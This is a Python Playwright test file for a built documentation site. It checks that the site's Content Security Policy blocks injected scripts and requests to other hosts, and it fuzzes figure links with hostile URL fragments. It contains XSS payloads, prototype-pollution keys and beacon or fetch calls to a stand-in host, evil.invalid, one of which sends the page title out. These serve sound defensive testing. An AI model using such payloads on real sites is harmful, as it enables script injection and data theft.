"""The built pages against those who would have them run something: scripts put into a page, hostile links."""

import json
import os
import re
from pathlib import Path
from typing import Any

import numpy as np
import policy
import pytest

HTML = Path(__file__).resolve().parents[2] / "_build" / "html"
NIGHT = os.environ.get("PAIRINT_TEST_SEED") == "random"
#: Links tried on each figure and on the setting: nightly more, and other ones.
ATTEMPTS = 40 if NIGHT else 10
DRAWN = "() => [...document.querySelectorAll('.pairint-explorer')].every(e => e.pairint?.updates > 0)"
MARK = "window.intruded = (window.intruded ?? []).concat"

#: What somebody might put into a page; each would leave its name in `intruded`, or ask another host.
INTRUSIONS = {
    "script": "() => { const s = document.createElement('script'); s.textContent = MARK('script');"
    " document.body.append(s); }",
    "module": "() => { const s = document.createElement('script'); s.type = 'module';"
    " s.textContent = MARK('module'); document.body.append(s); }",
    "data address": "() => { const s = document.createElement('script');"
    " s.src = 'data:text/javascript,' + encodeURIComponent(MARK('data address')); document.body.append(s); }",
    "other host": "() => { const s = document.createElement('script'); s.src = 'https://evil.invalid/x.js';"
    " document.body.append(s); }",
    "handler": "() => document.body.insertAdjacentHTML('beforeend',"
    " `<img src='x:' onerror=\"${MARK('handler')}\">`)",
    "drawing": "() => document.body.insertAdjacentHTML('beforeend',"
    " `<svg><animate onbegin=\"${MARK('drawing')}\" attributeName='x' dur='1s'/></svg>`)",
    "link": "() => { const a = document.createElement('a'); a.href = 'javascript:' + MARK('link');"
    " document.body.append(a); a.click(); }",
    "frame": "() => { const f = document.createElement('iframe');"
    " f.srcdoc = `<script>parent.${MARK('frame').slice(7).replace('window.', 'parent.')}</script>`;"
    " document.body.append(f); }",
    "timer": "() => { try { setTimeout(MARK('timer'), 0); } catch {} }",
    "function": "() => setTimeout(() => { try { new Function(MARK('function'))(); } catch {} }, 0)",
    "picture": "() => { new Image().src = 'https://evil.invalid/p?' + encodeURIComponent(document.title); }",
    "request": "() => fetch('https://evil.invalid/r').catch(() => {})",
    "beacon": "() => { navigator.sendBeacon('https://evil.invalid/b', 'x'); }",
    "style": "() => document.body.insertAdjacentHTML('beforeend',"
    " `<style>@import url(https://evil.invalid/s.css);"
    " body { background: url(https://evil.invalid/b.png) }</style>`)",
    "form": "() => { const f = document.createElement('form'); f.action = 'https://evil.invalid/f';"
    " document.body.append(f); f.submit(); }",
    "base": "() => { const b = document.createElement('base'); b.href = 'https://evil.invalid/';"
    " document.head.prepend(b); fetch('after-base').catch(() => {}); b.remove(); }",
}
SENT = {
    "other host",
    "picture",
    "request",
    "beacon",
    "style",
    "form",
    "base",
}  # ask another host; the others run


def intrude(page: Any, name: str) -> None:
    """Put something into a page, and wait a moment; ``window.refused`` says what its policy refused."""
    page.evaluate(
        "() => { window.refused = [];"
        " addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective)); }"
    )
    # What Playwright calls directly may evaluate text under any policy; what a timer calls may not.
    made = INTRUSIONS[name].replace("MARK('", "mark('")
    page.evaluate(f"() => {{ const mark = name => `{MARK}('${{name}}')`; return ({made})(); }}")
    page.wait_for_timeout(200)


@pytest.fixture
def one_page(site: str) -> str:
    return f"{site}/book/fish.html"


@pytest.mark.parametrize("name", INTRUSIONS)
def test_what_is_put_into_a_page_neither_runs_nor_asks_another_host(one_page, visit, name):
    seen = visit(one_page)
    intrude(seen.page, name)
    assert seen.page.evaluate("window.intruded ?? []") == []
    assert seen.foreign == []
    assert seen.page.url == one_page
    said = [error for error in seen.errors if "Content Security Policy" in error]
    assert said or seen.page.evaluate("window.refused")  # it was tried


@pytest.mark.parametrize("name", INTRUSIONS)
def test_without_the_policy_each_of_them_would(serve, visit, tmp_path, name):
    """A negative control: the same page as it was before it had its policy."""
    text = policy.META.sub("", (HTML / "book" / "fish.html").read_text(encoding="utf-8"))
    (tmp_path / "page.html").write_text(text, encoding="utf-8")
    seen = visit(f"{serve(tmp_path)}/page.html")
    intrude(seen.page, name)
    if name in SENT:
        assert seen.foreign
    else:
        assert seen.page.evaluate("window.intruded") == [name]


def test_every_page_has_a_policy_that_fits_it(site):
    pages = policy.pages(HTML)
    assert len(pages) > 50
    for path in pages:
        with path.open(encoding="utf-8", newline="") as file:
            text = file.read()
        assert len(policy.META.findall(text)) == 1, path
        assert policy.guard(text) == text, path


def test_a_policy_is_seen_to_be_broken(serve, visit, tmp_path):
    """A negative control: a script that came after the policy is refused, and the visit is not quiet."""
    text = (HTML / "book" / "fish.html").read_text(encoding="utf-8")
    (tmp_path / "page.html").write_text(text.replace("</body>", "<script>let late;</script></body>"), "utf-8")
    seen = visit(f"{serve(tmp_path)}/page.html")
    assert any("Content Security Policy" in error for error in seen.errors)


def test_printing_and_full_screen_still_work(one_page, visit):
    seen = visit(one_page)
    page = seen.page
    page.evaluate("window.print = () => { window.printed = true; }")
    page.evaluate("document.querySelector('[onclick=\"window.print()\"]').click()")
    assert page.evaluate("window.printed") is True
    page.evaluate("window.toggleFullScreen = () => { window.toggled = true; }")
    page.evaluate("document.querySelector('[onclick=\"toggleFullScreen()\"]').click()")
    assert page.evaluate("window.toggled ?? document.fullscreenElement !== undefined") is not None
    seen.assert_quiet()


def test_a_page_opened_from_a_file_is_readable_and_moves(visit):
    if not (HTML / "index.html").is_file():
        pytest.skip("the book is not built: run `make book`")
    page, _ = next(iter(figures().items()))
    seen = visit((HTML / "book" / f"{page}.html").as_uri())
    seen.page.wait_for_function("document.querySelector('.pairint-explorer')?.pairint?.updates > 0")
    assert not [error for error in seen.errors if "Content Security Policy" in error]
    seen.page.locator("mjx-container").first.wait_for(state="attached")


# Links.

FIGURE = re.compile(
    r'<div class="pairint-explorer" id="([^"]+)".*?<script type="application/json">(.*?)</script>', re.DOTALL
)


def figures() -> dict[str, dict[str, dict[str, Any]]]:
    """Return the parameters of each figure of each page of the built book."""
    found = {}
    for path in sorted((HTML / "book").glob("*.html")):
        here = {
            match[1]: {p["key"]: p for p in json.loads(match[2])["spec"]["parameters"]}
            for match in FIGURE.finditer(path.read_text(encoding="utf-8"))
        }
        if here:
            found[path.stem] = here
    return found


def tried() -> list[str]:
    """Return the pages whose links are tried: the first, the large figures, and every third; at night all.

    What reads a link is shared by all figures; what a figure makes of it is its parameters.
    """
    pages = enumerate(figures())
    return [name for place, name in pages if NIGHT or place % 3 == 0 or name in ("explorers", "intro")]


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    if "with_figures" in metafunc.fixturenames:
        metafunc.parametrize("with_figures", tried() or ["nothing-is-built"])


HOSTILE_KEYS = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "then",
    "0",
    "",
    "ключ",
    "a[b]",
)
HOSTILE_VALUES = (
    "<script>intruded=['s']</script>",
    '"><img src=x onerror="intruded=[1]">',
    "javascript:intruded=[2]",
    "${intruded=[3]}",
    "{{constructor.constructor('intruded=[4]')()}}",
    "';intruded=[5];//",
    "NaN",
    "Infinity",
    "-Infinity",
    "1e999",
    "-1e308",
    "1e-320",
    "-0",
    "9" * 400,
    "0x7fffffff",
    "1_000",
    "1,5",
    "null",
    "undefined",
    "true",
    "[object Object]",
    "__proto__",
    "constructor",
    "",
    " ",
    "\u0000",
    "\u202e\u2066",
    "１２３",
    "٣",
    "\ud83d\ude00" * 50,
    "é\u0301" * 30,
    "%",
    "%E0%A4%A",
    "+",
    "A" * 20_000,
)


def hostile(rng: np.random.Generator, name: str, parameters: dict[str, Any]) -> str:
    """Return the fragment of a link that means harm, or has suffered some."""

    def one_of(choices: Any) -> Any:
        return choices[rng.integers(len(choices))]

    def encoded(text: str) -> str:
        kind = rng.integers(4)
        if kind == 0:
            return text.replace("#", "")
        if kind == 1:
            return "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))
        if kind == 2:
            return json.dumps(text)[1:-1]
        return re.sub(
            r"[^\w.+-]", lambda m: "".join(f"%{b:02x}" for b in m[0].encode("utf-8", "surrogatepass")), text
        )

    pairs = []
    for _ in range(rng.integers(1, 8)):
        key = one_of([*parameters]) if parameters and rng.random() < 0.7 else one_of(HOSTILE_KEYS)
        value = one_of(HOSTILE_VALUES)
        if rng.random() < 0.3:
            value = f"{rng.normal() * 10.0 ** rng.integers(-320, 308)!r}"
        pairs.append(f"{encoded(key) if rng.random() < 0.2 else key}={encoded(value)}")
    fragment = f"{name}?{one_of('&&&;?')}".replace("?&", "?") + one_of("&&&;").join(pairs)
    cut = rng.integers(len(fragment)) if rng.random() < 0.1 else len(fragment)
    return fragment[:cut]


#: The state of all figures of a page, and what should be nowhere on it.
STATE = """() => ({
    values: Object.fromEntries([...document.querySelectorAll(".pairint-explorer")]
        .map(e => [e.id, {...e.pairint.values}])),
    bad: [...document.querySelectorAll(".pairint-explorer")].flatMap(e => [
        ...[...e.shadowRoot.querySelectorAll("svg *")].flatMap(x => [...x.attributes])
            .filter(a => a.name !== "class" && /NaN|Infinity|undefined/.test(a.value))
            .map(a => `${a.name}=${a.value}`),
        ...[...e.shadowRoot.querySelectorAll(".summary, output, .title, svg text, td")]
            .map(x => x.textContent).filter(t => /NaN|undefined|\\[object|intruded|<img|<script/.test(t)),
        ...[...e.shadowRoot.querySelectorAll("script, iframe, object, embed")].map(x => x.outerHTML)]),
    intruded: window.intruded ?? null,
    polluted: Object.keys(Object.prototype).length + (({}).d !== undefined) + (({}).samples !== undefined),
})"""

#: Follow a link within the page, and wait until the figures have drawn what it asks for.
FOLLOW = """async fragment => {
    location.hash = fragment;
    for (let i = 0; i < 3; i += 1) await new Promise(requestAnimationFrame);
}"""


def legal(value: Any, parameter: dict[str, Any]) -> bool:
    if parameter["scale"] in ("list", "choice"):
        return value in parameter["choices"]
    whole = not parameter.get("integer") or float(value).is_integer()
    return isinstance(value, int | float) and parameter["minimum"] <= value <= parameter["maximum"] and whole


def generator() -> np.random.Generator:
    """Return the same draws each time; other ones where PAIRINT_TEST_SEED is "random"."""
    return np.random.default_rng(None if NIGHT else 17)


def check(page: Any, parameters: dict[str, Any], link: str) -> None:
    state = page.evaluate(STATE)
    assert state["intruded"] is None and state["polluted"] == 0 and state["bad"] == [], link
    assert set(state["values"]) == set(parameters), link
    for name, values in state["values"].items():
        wrong = {key: values[key] for key, p in parameters[name].items() if not legal(values[key], p)}
        assert wrong == {}, (name, link)


def test_no_link_makes_a_figure_show_what_it_cannot(site, visit, with_figures):
    """Script, huge numbers, names of prototypes, any writing: a legal view, no error, nobody else asked."""
    parameters = figures()[with_figures]
    seen = visit(f"{site}/book/{with_figures}.html")
    page = seen.page
    page.wait_for_function(DRAWN)
    rng = generator()
    check(page, parameters, "")
    keys = parameters | {"setting": dict.fromkeys(("d", "samples", "beta", "tokens"))}
    for name in keys:
        for _ in range(ATTEMPTS):
            link = hostile(rng, name, keys[name])
            page.evaluate(FOLLOW, link)
            check(page, parameters, link)
    # Opened afresh, too, with what a search engine or a tracker would add.
    for name in ([*parameters][rng.integers(len(parameters))], "setting"):
        link = hostile(rng, name, keys[name]).encode("utf-8", "replace").decode()
        page.goto("about:blank")
        page.goto(f"{site}/book/{with_figures}.html?utm=<script>&__proto__[x]=1#{link[:5000]}")
        page.wait_for_function(DRAWN)
        check(page, parameters, link)
    seen.assert_quiet()


def test_a_good_link_is_followed(site, visit):
    """A negative control: links do change the figures, and an illegal value would be seen."""
    found = figures()
    if not found:
        pytest.skip("the book is not built: run `make book`")
    page_name, parameters = next(iter(found.items()))
    name, keys = next(iter(parameters.items()))
    p = next(p for p in keys.values() if p["scale"] not in ("list", "choice"))
    wanted = p["minimum"] if p["value"] != p["minimum"] else p["maximum"]
    seen = visit(f"{site}/book/{page_name}.html#{name}?{p['key']}={wanted}")
    seen.page.wait_for_function(f"document.getElementById({name!r}).pairint?.values.{p['key']} === {wanted}")
    seen.page.evaluate(f"document.getElementById({name!r}).pairint.values = {{{p['key']}: NaN}}")
    with pytest.raises((AssertionError, KeyError, ValueError)):
        check(seen.page, {name: keys}, "")


@pytest.mark.parametrize("value", [*HOSTILE_VALUES[:6], "__proto__", "constructor", "9" * 400, "\u202e"])
def test_whatever_is_searched_for_is_shown_as_text(site, visit, value):
    from urllib.parse import quote

    seen = visit(f"{site}/search.html?q={quote(value)}&check_keywords=yes&area=default")
    seen.page.wait_for_function("document.querySelector('#search-results')?.textContent.trim().length > 0")
    seen.page.evaluate("() => new Promise(done => setTimeout(done, 200))")
    assert seen.page.evaluate("window.intruded ?? null") is None
    assert seen.page.locator("#search-results script, #search-results img").count() == 0
    seen.assert_quiet()


@pytest.mark.parametrize("value", (*HOSTILE_VALUES[:8], "%", "__proto__", "\u202e", "A" * 5000))
def test_a_fragment_that_names_nothing_changes_nothing(site, visit, value):
    """On a page with folded proofs, whose script looks for what the address names."""
    seen = visit(f"{site}/book/upper_bound_proof.html")
    seen.page.evaluate(FOLLOW, value)
    assert seen.page.evaluate("window.intruded ?? null") is None
    seen.assert_quiet()
